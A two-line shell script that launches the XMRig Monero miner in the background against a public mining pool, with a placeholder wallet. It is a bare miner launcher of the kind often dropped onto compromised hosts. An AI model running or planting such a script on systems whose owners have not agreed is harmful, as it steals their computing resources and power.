#!/bin/sh
./xmrig -o pool.supportxmr.com:3333 -u WALLET -p x -k --donate-level 1 -B
